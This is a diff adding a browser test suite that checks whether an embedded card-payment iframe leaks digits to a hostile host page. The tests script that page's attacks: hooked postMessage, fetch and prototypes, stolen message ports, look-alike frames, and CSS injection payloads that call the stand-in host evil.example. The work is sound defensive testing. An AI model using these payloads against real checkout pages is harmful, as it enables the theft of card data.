@@ -1,0 +1,328 @@
+import type { Frame, Page } from 'playwright-core'
+import { afterEach, describe, expect, test } from 'vitest'
+import { frameOf, mountCard, openElementsShop, typeCard } from './elements-shop.ts'
+
+// The list of SECURITY.md, "Card fields against a hostile page": each test is one attack by the page that shows
+// the fields, while a buyer types a card whose digits are in nothing else
+
+const town = await openElementsShop()
+const origin = town.railyard.url
+
+const card = { number: '5105105105105100', expiry: '1137', code: '826' }
+/** What a page must not learn; it may learn the last four digits of a whole number. */
+const secrets = [
+  /5105\D{0,3}1051/,
+  /1051\D{0,3}0510/,
+  /(?<!\d)826(?!\d)/,
+  /11\s?\/\s?(?:20)?37/,
+  /(?<!\d)1137(?!\d)/,
+]
+
+/** Records whatever reaches the page: messages, events, errors and console lines. It runs before every script. */
+const recorder = `
+const seen = []
+const note = (...values) => {
+  const flat = (value, depth) => {
+    if (depth > 4 || value === null || typeof value !== 'object') return String(value)
+    const names = new Set([...Object.getOwnPropertyNames(value), ...Object.keys(value)])
+    return [...names].map((name) => { try { return name + '=' + flat(value[name], depth + 1) } catch { return name } }).join(',')
+  }
+  seen.push(values.map((value) => flat(value, 0)).join(' '))
+}
+globalThis.seen = seen
+addEventListener('message', (event) => note('message', event.origin, event.data))
+for (const name of ['keydown', 'keyup', 'keypress', 'input', 'beforeinput', 'change', 'paste', 'copy', 'cut', 'drop', 'dragover', 'selectionchange', 'pointerdown', 'compositionupdate', 'focusin', 'focusout', 'error', 'unhandledrejection', 'securitypolicyviolation', 'hashchange', 'popstate', 'storage'])
+  for (const target of [globalThis, document]) target.addEventListener(name, (event) => note(name, event.key, event.data, event.message, event.target?.value), true)
+for (const level of ['log', 'warn', 'error', 'debug', 'info']) console[level] = (...values) => note(level, ...values)
+`
+
+/** Everything that the page can look at by itself, as text. */
+const observe = (page: Page) =>
+  page.evaluate(() => {
+    const scope = globalThis as unknown as Record<string, unknown>
+    const document = scope['document'] as unknown as {
+      documentElement: { outerHTML: string }
+      cookie: string
+      referrer: string
+      title: string
+      querySelectorAll(selector: string): Iterable<{ src: string; name: string; contentWindow: object }>
+    }
+    const text = (read: () => unknown) => {
+      try {
+        return String(read())
+      } catch (error) {
+        return String(error)
+      }
+    }
+    const frames = [...document.querySelectorAll('iframe')].flatMap((frame) => [
+      text(() => frame.src),
+      text(() => frame.name),
+      ...[
+        'document',
+        'location',
+        'name',
+        'history',
+        'localStorage',
+        'origin',
+        'length',
+        'frames',
+        'opener',
+      ].map((name) => text(() => JSON.stringify(Reflect.get(frame.contentWindow, name)))),
+      text(() => Reflect.get(frame, 'contentDocument')),
+    ])
+    const storage = ['localStorage', 'sessionStorage'].map((name) => text(() => JSON.stringify(scope[name])))
+    const performance = scope['performance'] as { getEntries(): unknown[] }
+    return [
+      ...(scope['seen'] as string[]),
+      text(() => JSON.stringify(scope['events'])),
+      document.documentElement.outerHTML,
+      document.cookie,
+      document.referrer,
+      document.title,
+      text(() => scope['name']),
+      text(() => JSON.stringify(scope['location'])),
+      text(() => JSON.stringify(performance.getEntries())),
+      ...storage,
+      ...frames,
+    ].join('\n')
+  })
+
+let network: string[] = []
+afterEach(() => {
+  network = []
+  // an attack throws, and breaks the rules of its own page
+  town.browser.problems.length = 0
+})
+
+/** A page of the shop that attacks: `script` runs before the loader. */
+async function attackedPage(script = '', body?: string): Promise<Page> {
+  const page = await town.open({ script: `${recorder}\n${script}`, ...(body !== undefined && { body }) })
+  // what a service worker, an image or a beacon of the page could carry away
+  page.on('request', (request) => {
+    if (!request.url().startsWith(origin)) network.push(`${request.url()} ${request.postData() ?? ''}`)
+  })
+  return page
+}
+
+async function expectNoDigit(page: Page): Promise<void> {
+  const observed = `${await observe(page)}\n${network.join('\n')}`
+  for (const secret of secrets) expect(observed).not.toMatch(secret)
+}
+
+async function enter(frame: Frame): Promise<void> {
+  await typeCard(frame, card)
+  // the card is really there
+  expect(await frame.locator('#number').inputValue()).toBe('5105 1051 0510 5100')
+}
+
+const whileTyping: [string, string][] = [
+  ['listens to every event around the frame', ''],
+  [
+    'replaces MessageChannel, postMessage, fetch and JSON before the loader runs',
+    `const Original = MessageChannel
+     globalThis.MessageChannel = class { constructor() { const channel = new Original(); note('channel'); return channel } }
+     const post = MessagePort.prototype.postMessage
+     MessagePort.prototype.postMessage = function (...values) { note('port', ...values); return post.apply(this, values) }
+     const posted = globalThis.postMessage
+     globalThis.postMessage = (...values) => { note('window', ...values); return posted(...values) }
+     const fetched = globalThis.fetch
+     globalThis.fetch = (...values) => { note('fetch', ...values); return fetched(...values) }
+     const stringify = JSON.stringify
+     JSON.stringify = (...values) => { note('json', ...values); return stringify(...values) }`,
+  ],
+  [
+    'changes the prototypes of objects, lists and events',
+    `for (const name of ['value', 'number', 'code', 'text', 'data', 'field'])
+       Object.defineProperty(Object.prototype, name, { configurable: true, set(value) { note('set', name, value); }, get: () => undefined })
+     const push = Array.prototype.push
+     Array.prototype.push = function (...values) { return push.apply(this, values) }
+     const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get
+     Object.defineProperty(MessageEvent.prototype, 'data', { get() { const value = data.call(this); seen[seen.length] = 'data ' + String(value?.kind) + ' ' + Object.values(value ?? {}).map(String).join(' '); return value } })`,
+  ],
+  [
+    'gives itself a name, and watches its history and storage',
+    `globalThis.name = 'x'; history.pushState({}, '', '#page'); localStorage.setItem('a', 'b'); setInterval(() => note(location.href, globalThis.name), 50)`,
+  ],
+  [
+    'answers for the loader: it takes the first message of the frame itself',
+    `addEventListener('message', (event) => { if (event.data?.railyard === 'ready' && event.ports[0]) { event.ports[0].onmessage = (message) => note('stolen', message.data); event.ports[0].postMessage({ kind: 'dump' }); event.ports[0].postMessage({ kind: 'focus', field: 'number' }); document.querySelector('#card iframe').style.height = '400px'; event.stopImmediatePropagation() } }, true)`,
+  ],
+]
+
+describe('a hostile page that shows card fields learns no digit while it', () => {
+  test.each(whileTyping)('%s', async (_name, script) => {
+    const page = await attackedPage(script)
+    const frame = await mountCard(page, { origin, session: await town.session() })
+    await enter(frame)
+    await page.evaluate('void card.submit().catch(() => undefined)')
+    await expectNoDigit(page)
+  })
+
+  test('sends commands that there are not, of every form, and huge ones', async () => {
+    const page = await attackedPage()
+    const frame = await mountCard(page, { origin, session: await town.session() })
+    await enter(frame)
+    await page.evaluate(`(() => {
+      const deep = {}
+      let at = deep
+      for (let depth = 0; depth < 500; depth++) at = at.next = {}
+      const commands = [null, 1, 'text', [], { kind: 'get' }, { kind: 'values' }, { kind: 'fields' }, { kind: '__proto__' },
+        { kind: 'style', style: JSON.parse('{"__proto__": {"color": "red"}, "constructor": {"prototype": {}}}') },
+        { kind: 'style', style: 'x'.repeat(1e6) }, { kind: 'focus', field: 'x'.repeat(1e6) }, { kind: 'focus', field: '#number' },
+        { kind: 'session', session: 'https://evil.example' }, { kind: 'session', session: '../../pay' }, { kind: 'scheme', codeSize: 1 },
+        { kind: 'change' }, { kind: 'submit', id: { toString: null } }, deep]
+      const frame = document.querySelector('#card iframe')
+      for (const command of commands) frame.contentWindow.postMessage(command, '*')
+      // a port of its own in place of the loader's
+      const { port1, port2 } = new MessageChannel()
+      port1.onmessage = ({ data }) => note('own port', data)
+      frame.contentWindow.postMessage({ railyard: 'join' }, '*', [port2])
+      for (const command of commands) port1.postMessage(command)
+    })()`)
+    await page.evaluate(`card.update({ style: { color: 'red', nothing: 'x' } })`)
+    expect(await page.evaluate('card.submit()')).toEqual({ brand: 'mastercard', last4: '5100' })
+    await expectNoDigit(page)
+  })
+
+  test('sets styles that load something for a sign of the card', async () => {
+    const page = await attackedPage()
+    const values = [
+      'url(https://evil.example/x)',
+      'URL("//evil.example")',
+      'u\\72l(https://evil.example)',
+      'image-set("https://evil.example/x" 1x)',
+      'var(--x, url(https://evil.example))',
+      'attr(value)',
+      'red} input[value^="5"] { background: url(https://evil.example/5) }',
+      'red; background-image: url(https://evil.example)',
+      'expression(alert(1))',
+      'x'.repeat(5_000),
+    ]
+    const frame = await mountCard(page, { origin, session: await town.session() })
+    for (const value of values)
+      await page.evaluate(
+        `card.update({ style: ${JSON.stringify(Object.fromEntries(['color', 'background', 'fontFamily', 'padding', 'borderColor'].map((name) => [name, value])))} })`,
+      )
+    await enter(frame)
+    const applied = await frame.evaluate('document.documentElement.getAttribute("style") ?? ""')
+    expect(applied).not.toMatch(/evil|url|\{/i)
+    expect(network.filter((request) => request.includes('evil'))).toEqual([])
+    await expectNoDigit(page)
+  })
+
+  test('puts frames of its own in the place of the one that joins split fields', async () => {
+    const page = await attackedPage('', '<div id="n"></div><div id="e"></div><div id="c"></div>')
+    await page.evaluate(`(async () => {
+      const elements = await railyard.loadRailyard(${JSON.stringify({ origin, session: await town.session() })})
+      const fields = elements.cardFields()
+      globalThis.fields = fields
+      fields.on('change', (change) => note('change', change))
+      fields.number.mount('#n')
+      fields.expiry.mount('#e')
+      fields.code.mount('#c')
+    })()`)
+    const frames = await Promise.all(['#n', '#e', '#c'].map((place) => frameOf(page, `${place} iframe`)))
+    const name = await page.evaluate('[...document.querySelectorAll("iframe")].find(({ name }) => name).name')
+    await page.evaluate(`(() => {
+      // a look-alike of the page's own origin, and further fields that join whatever has the name
+      const fake = document.createElement('iframe')
+      fake.name = ${JSON.stringify(name)}
+      fake.src = 'about:blank'
+      document.body.prepend(fake)
+      fake.contentWindow.addEventListener('message', (event) => note('look-alike', event.data, event.ports.length))
+    })()`)
+    for (const [index, [field, text]] of (
+      [
+        ['number', card.number],
+        ['expiry', card.expiry],
+        ['code', card.code],
+      ] as const
+    ).entries())
+      await frames[index]?.locator(`#${field}`).pressSequentially(text)
+    // a second field mounted now meets the look-alike
+    await page.evaluate(`fields.code.mount('#c')`)
+    await (await frameOf(page, '#c iframe')).locator('#code').pressSequentially(card.code)
+    await expectNoDigit(page)
+  })
+
+  test('opens the session in a second loader, and asks for what the first one holds', async () => {
+    const session = await town.session()
+    const page = await attackedPage('', '<div id="card"></div><div id="other"></div>')
+    const frame = await mountCard(page, { origin, session })
+    await enter(frame)
+    expect(await page.evaluate('card.submit()')).toMatchObject({ last4: '5100' })
+    await page.evaluate(`(async () => {
+      const elements = await railyard.loadRailyard(${JSON.stringify({ origin, session })})
+      const second = elements.card()
+      second.on('change', (change) => note('second', change))
+      second.mount('#other')
+    })()`)
+    await frameOf(page, '#other iframe')
+    // the session's id only writes: nothing of the card can be read with it
+    const read = await page.evaluate(`Promise.all(['', '/fields', '/acquirer'].map((path) =>
+      fetch(${JSON.stringify(`${origin}/checkout/sessions/${session}`)} + path).then((answer) => answer.text(), String))).then((texts) => texts.join('\\n'))`)
+    for (const secret of secrets) expect(read).not.toMatch(secret)
+    await expectNoDigit(page)
+  })
+})
+
+describe('card fields are not shown', () => {
+  const shows = async (page: Page, src: string) => {
+    await page.evaluate(
+      `document.body.append(Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(src)}, id: 'stolen' }))`,
+    )
+    const frame = await (await page.waitForSelector('#stolen', { state: 'attached' })).contentFrame()
+    await frame?.waitForLoadState().catch(() => undefined)
+    return (await frame?.locator('input').count()) ?? 0
+  }
+
+  test('to a page of another origin than the one that the frame was asked for', async () => {
+    const session = await town.session()
+    const page = await attackedPage()
+    for (const parent of ['http://127.0.0.1:1', origin, 'http://localhost:1'])
+      expect(
+        await shows(page, `${origin}/elements/card?session=${session}&parent=${encodeURIComponent(parent)}`),
+      ).toBe(0)
+  })
+
+  test('to a page that is not among the allowed origins of the account', async () => {
+    const other = await town.railyard.merchant()
+    await other.put(`/merchant-accounts/${other.account}/elements`, {
+      allowed_origins: ['https://shop.example'],
+    })
+    const session = (await other.post('/checkout/sessions', {})).body.id
+    const page = await attackedPage()
+    expect(
+      await shows(
+        page,
+        `${origin}/elements/card?session=${session}&parent=${encodeURIComponent(town.origin)}`,
+      ),
+    ).toBe(0)
+  })
+
+  test('within a frame of a page that another origin shows', async () => {
+    const session = await town.session()
+    // the shop's page, in a page of Railyard's own host: frame-ancestors names every page around the frame
+    const inner = await town.open()
+    await mountCard(inner, { origin, session })
+    const context = await town.browser.newContext({})
+    const outer = await context.newPage()
+    await outer.route('https://outer.example/', (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<iframe id="shop" src="${town.origin}/around"></iframe>`,
+      }),
+    )
+    await outer.route(`${town.origin}/around`, (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<iframe id="card" src="${origin}/elements/card?session=${session}&parent=${encodeURIComponent(town.origin)}"></iframe>`,
+      }),
+    )
+    await outer.goto('https://outer.example/')
+    const shop = await (await outer.waitForSelector('#shop')).contentFrame()
+    const card = await (await shop?.waitForSelector('#card'))?.contentFrame()
+    await card?.waitForLoadState().catch(() => undefined)
+    expect(await card?.locator('input').count()).toBe(0)
+  })
+})
